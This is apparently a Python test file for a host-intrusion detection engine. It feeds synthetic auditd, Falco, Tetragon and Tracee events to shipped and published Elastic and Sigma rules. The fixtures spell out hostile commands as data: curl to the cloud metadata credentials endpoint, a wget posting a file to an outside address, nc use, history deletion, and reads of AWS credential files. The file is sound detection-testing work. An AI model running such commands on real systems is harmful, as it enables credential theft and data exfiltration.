"""Four host sensors see the same deed; each vendor's rule rings on each telling that has its facts.

Somebody at a terminal of web-1 asks the metadata service with curl. auditd, Falco, Tetragon and
Tracee tell that a program was executed and that it connected.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest

from tocsin.events.decoders import auditd
from tocsin.events.decoders import json as json_decoder
from tocsin.events.record import Record
from tocsin.rules.load import load_rules, shipped_pack
from tocsin.rules.model import Rule
from tocsin.runtime.detector import Detector

URL = "http://169.254.169.254/latest/meta-data/iam/security-credentials/bell-ringer"
SADDR = "02000050A9FEA9FE0000000000000000"
ARCH = "arch=c000003e"


def audit(number: int, *others: str, serial: int = 1, **more: str) -> str:
    """An audit event: a SYSCALL record, the others, and the end."""
    said = {
        "syscall": str(number), "success": "yes", "exit": "0", "a0": "5", "a1": "6", "a2": "7",
        "a3": "8", "ppid": "20", "pid": "21", "auid": "1001", "uid": "1001", "gid": "1001",
        "euid": "1001", "tty": "pts3", "ses": "4", "comm": '"curl"', "exe": '"/usr/bin/curl"',
        "key": "(null)", **more,
    }  # fmt: skip
    fields = " ".join(f"{key}={value}" for key, value in said.items())
    records = [f"SYSCALL|{ARCH} {fields}", *others, "PROCTITLE|proctitle=6375726C"]
    return "".join(
        f"node=web-1 type={kind} msg=audit(1772359200.250:{serial}): {body}\n"
        for kind, _, body in (record.partition("|") for record in records)
    )


def falco(kind: str, **more: Any) -> str:
    fields = {
        "evt.type": kind, "proc.name": "curl", "proc.exepath": "/usr/bin/curl", "proc.pid": 21,
        "proc.cmdline": f"curl -s {URL}", "proc.tty": 34819, "proc.pname": "bash", "user.uid": 1001,
        **more,
    }  # fmt: skip
    return json.dumps({
        "rule": "A call", "priority": "Notice", "source": "syscall", "hostname": "web-1",
        "time": "2026-03-01T10:00:00.250000000Z", "output_fields": fields,
    })  # fmt: skip


def tetragon(kind: str, **more: Any) -> str:
    own = {"pid": 21, "uid": 1001, "binary": "/usr/bin/curl", "arguments": f"-s {URL}",
           "flags": "execve clone"}  # fmt: skip
    parent = {"pid": 20, "binary": "/usr/bin/bash"}
    body = {"process": own, "parent": parent, **more}
    return json.dumps({kind: body, "node_name": "web-1", "time": "2026-03-01T10:00:00.250Z"})


def tracee(name: str, **values: Any) -> str:
    return json.dumps({
        "timestamp": 1772359200250000000, "hostProcessId": 21, "hostParentProcessId": 20,
        "userId": 1001, "processName": "curl", "executable": {"path": "/usr/bin/curl"},
        "hostName": "web-1", "eventName": name, "returnValue": 0,
        "args": [{"name": key, "value": value} for key, value in values.items()],
    })  # fmt: skip


EXECUTED = {
    "auditd": audit(59, f'EXECVE|argc=3 a0="curl" a1="-s" a2="{URL}"'),
    "falco": falco("execve"),
    "tetragon": tetragon("process_exec"),
    "tracee": tracee("sched_process_exec", pathname="/usr/bin/curl", argv=["curl", "-s", URL]),
}
CONNECTED = {
    "auditd": audit(42, f"SOCKADDR|saddr={SADDR}", success="no", exit="-115"),
    "falco": falco("connect", **{"fd.name": "192.0.2.10:40312->169.254.169.254:80"}),
    "tetragon": tetragon(
        "process_kprobe",
        function_name="tcp_connect",
        args=[{"sock_arg": {"daddr": "169.254.169.254", "dport": 80, "family": "AF_INET"}}],
    ),
    "tracee": tracee(
        "security_socket_connect",
        remote_addr={"sa_family": "AF_INET", "sin_addr": "169.254.169.254", "sin_port": "80"},
    ),
}
SENSORS = sorted(EXECUTED)


def records(text: str) -> list[Record]:
    decoder = json_decoder if text.lstrip().startswith("{") else auditd
    found = list(decoder.decode(io.BytesIO(text.encode()), "events"))
    assert all(isinstance(record, Record) for record in found)
    return [record for record in found if isinstance(record, Record)]


def rung(rules: tuple[Rule, ...] | list[Rule], text: str) -> set[str]:
    """The names of the rules that ring."""
    detector = Detector(rules, now=1_800_000_000 * 10**9)
    matches = [*detector.feed(records(text), "events"), *detector.finish()]
    return {match.rule.name for match in matches}


@pytest.fixture(scope="module")
def pack() -> tuple[Rule, ...]:
    """The rules that ship."""
    return load_rules([shipped_pack()]).rules


CONNECTION = "First Metadata Service Connection by a Program on a Host"


@pytest.mark.parametrize("sensor", SENSORS)
def test_a_connection_is_seen_by_the_rule_for_endpoints(
    pack: tuple[Rule, ...], sensor: str
) -> None:
    assert CONNECTION in rung(pack, CONNECTED[sensor])


@pytest.mark.parametrize("sensor", SENSORS)
def test_another_address_is_none_of_its_business(pack: tuple[Rule, ...], sensor: str) -> None:
    elsewhere = CONNECTED[sensor].replace("169.254.169.254", "198.51.100.7")
    elsewhere = elsewhere.replace("A9FEA9FE", "C6336407")
    assert CONNECTION not in rung(pack, elsewhere)


@pytest.mark.parametrize("sensor", SENSORS)
def test_an_execution_is_seen_by_the_agents_rules(pack: tuple[Rule, ...], sensor: str) -> None:
    agent = {rule.name for rule in pack if rule.id == "imds_credentials_aws"}
    assert agent
    assert agent <= rung(pack, EXECUTED[sensor])


@pytest.mark.parametrize(
    "text, rings",
    [
        (EXECUTED["auditd"], True),
        (EXECUTED["auditd"].replace("tty=pts3", "tty=(none)"), False),
        (EXECUTED["auditd"].replace(" tty=pts3", ""), False),
        (EXECUTED["auditd"].replace("success=yes", "success=no"), False),
        (EXECUTED["auditd"].replace('"curl"', '"cat"'), False),
        (EXECUTED["falco"], True),
        (falco("execve", **{"proc.tty": 0}), False),
        (falco("execve", **{"proc.tty": None}), False),
        (EXECUTED["tetragon"], False),
        (EXECUTED["tracee"], False),
        *((text, False) for text in CONNECTED.values()),
    ],
)
def test_only_a_terminal_makes_it_interactive(tmp_path: Path, text: str, rings: bool) -> None:
    page = tmp_path / "page.md"
    page.write_text(PAGE, encoding="utf-8")
    rules = load_rules([page]).rules
    assert rung(rules, text) == ({"A page"} if rings else set())


PAGE = """---
aliases:
- 0yz-7md-lqk
type: security_rules
security: attack
rule_category:
- Workload Security
title: A page
---

## Goal
Ring.
"""


# --- the samples and published rules --------------------------------------------------------------


@pytest.fixture(scope="module")
def seeds(shared: Path) -> dict[str, tuple[Rule, ...]]:
    """Two of the published rules that started it."""
    corpus = shared / "corpora" / "elastic" / "rules" / "cross-platform"
    name = "credential_access_suspicious_instance_metadata_service_api_request.toml"
    (page,) = (shared / "seeds").glob("004_*")
    return {"002": load_rules([corpus / name]).rules, "004": load_rules([page]).rules}


@pytest.mark.parametrize(
    "sample, expected",
    [
        ("auditd_connect.log", {"002"}),
        ("auditd_execve.log", {"004"}),
        ("falco.json", {"002"}),
        ("tetragon.json", {"002"}),
        ("tracee.json", {"002"}),
    ],
)
def test_the_samples_ring_the_seeds(
    shared: Path, seeds: dict[str, tuple[Rule, ...]], sample: str, expected: set[str]
) -> None:
    text = (shared / "data" / "sensor-samples" / sample).read_text(encoding="utf-8")
    assert {name for name, rules in seeds.items() if rung(rules, text)} == expected


def test_the_samples_of_a_program_without_a_terminal_ring_nothing(
    shared: Path, seeds: dict[str, tuple[Rule, ...]]
) -> None:
    text = (shared / "data" / "sensor-samples" / "auditd_execve.log").read_text(encoding="utf-8")
    assert not rung(seeds["004"], text.replace("tty=pts0", "tty=(none)"))


def message(kind: str, inner: str, serial: int = 1) -> str:
    outer = "pid=30 uid=0 auid=1001 ses=4"
    return f"node=web-1 type={kind} msg=audit(1772359200.250:{serial}): {outer} msg='{inner}'\n"


def path(name: str) -> str:
    return f'PATH|item=0 name="{name}" nametype=NORMAL'


def opened(name: str, serial: int) -> str:
    return audit(2, path(name), serial=serial, a2="1b6")


PUBLISHED = {
    "linux/persistence_kernel_driver_load.toml": audit(313, 'KERN_MODULE|name="bell"'),
    "linux/persistence_unusual_pam_grantor.toml": message(
        "USER_AUTH", 'op=PAM:authentication grantors=pam_bell acct="ann" res=success'
    ),
    "linux/defense_evasion_apparmor_policy_violation.toml": audit(
        92, path("/bell"), success="no"
    ).replace(
        "node=web-1 type=SYSCALL",
        'node=web-1 type=AVC msg=audit(1772359200.250:1): apparmor="DENIED" operation="chown" '
        'name="/bell"\nnode=web-1 type=SYSCALL', 1,
    ),
    "linux/defense_evasion_prctl_process_name_tampering.toml": audit(
        157, a0="f", exe='"/tmp/bell"'
    ),
    "linux/defense_evasion_apparmor_policy_access.toml": audit(
        2, path("/sys/kernel/security/apparmor/.remove")
    ),
    "linux/execution_unknown_rwx_mem_region_binary_executed.toml": audit(10, a2="7"),
    "linux/privilege_escalation_unshare_to_root_process_auditd_sequence.toml": (
        audit(59, 'EXECVE|argc=2 a0="unshare" a1="--map-root-user"', comm='"unshare"')
        + audit(59, 'EXECVE|argc=1 a0="bash"', comm='"bash"', uid="0", serial=2).replace(
            "1772359200.250", "1772359201.250"
        )
    ),
    "linux/execution_shell_via_meterpreter_linux.toml": "".join(
        opened(name, serial)
        for serial, name in enumerate(
            ["/etc/machine-id", "/etc/passwd", "/proc/net/route", "/proc/net/ipv6_route",
             "/proc/net/if_inet6"]
        )
    ),
    "linux/execution_shell_via_udp_cli_utility_linux.toml": (
        audit(59, 'EXECVE|argc=1 a0="nc"', comm='"nc"')
        + audit(41, a1="2", comm='"nc"', serial=2)
        + audit(42, "SOCKADDR|saddr=02000050C63364070000000000000000", comm='"nc"', serial=3)
    ),
    "linux/command_and_control_auditd_curl_wget_from_container.toml": EXECUTED["auditd"].replace(
        "proctitle=6375726C", "proctitle=72756E6300696E6974"
    ),
    "linux/privilege_escalation_auditd_euid_root_shell_from_non_standard_path.toml": audit(
        59, 'EXECVE|argc=2 a0="bash" a1="-p"', comm='"bash"', exe='"/tmp/bash"', euid="0"
    ),
    "linux/credential_access_auditd_sensitive_cloud_and_host_identity_file_open.toml": audit(
        2, path("/root/.aws/credentials")
    ),
}  # fmt: skip


@pytest.mark.parametrize("rule", sorted(PUBLISHED))
def test_published_rules_for_auditd_find_their_fields(shared: Path, rule: str) -> None:
    loaded = load_rules([shared / "corpora" / "elastic" / "rules" / rule])
    assert len(loaded.rules) == 1, loaded.problems
    assert rung(loaded.rules, PUBLISHED[rule])


SIGMA = {
    "linux/auditd/execve/lnx_auditd_user_discovery.yml": audit(59, 'EXECVE|argc=1 a0="whoami"'),
    "linux/auditd/execve/lnx_auditd_data_exfil_wget.yml": audit(
        59, 'EXECVE|argc=3 a0="wget" a1="--post-file=/etc/bells" a2="198.51.100.7"'
    ),
    "linux/auditd/execve/lnx_auditd_susp_histfile_operations.yml": audit(
        59, 'EXECVE|argc=2 a0="rm" a1="/root/.bash_history"'
    ),
    "linux/auditd/path/lnx_auditd_ld_so_preload_mod.yml": audit(2, path("/etc/ld.so.preload")),
    "linux/auditd/syscall/lnx_auditd_susp_exe_folders.yml": audit(59, exe='"/tmp/bell"'),
    "linux/auditd/syscall/lnx_auditd_susp_discovery_sysinfo_syscall.yml": audit(99),
    "linux/auditd/syscall/lnx_auditd_web_rce.yml": audit(59, euid="33"),
    "linux/auditd/syscall/lnx_auditd_create_account.yml": message(
        "ADD_USER", "op=adding user id=1004 res=success"
    ),
    "linux/auditd/service_stop/lnx_auditd_disable_system_firewall.yml": message(
        "SERVICE_STOP", 'unit=ufw comm="systemd" exe="/usr/lib/systemd/systemd" res=success'
    ),
}


@pytest.mark.parametrize("rule", sorted(SIGMA))
def test_published_rules_for_single_records_find_them(shared: Path, rule: str) -> None:
    loaded = load_rules([shared / "corpora" / "sigma" / "rules" / rule])
    assert len(loaded.rules) == 1, loaded.problems
    assert rung(loaded.rules, SIGMA[rule])


def test_what_two_records_say_is_not_what_one_says(shared: Path) -> None:
    name = "linux/auditd/execve/lnx_auditd_user_discovery.yml"
    rules = load_rules([shared / "corpora" / "sigma" / "rules" / name]).rules
    # The name is that of another record than the one of the type that the rule asks for.
    assert not rung(rules, audit(59, 'EXECVE|argc=1 a0="ring"', a0="whoami"))
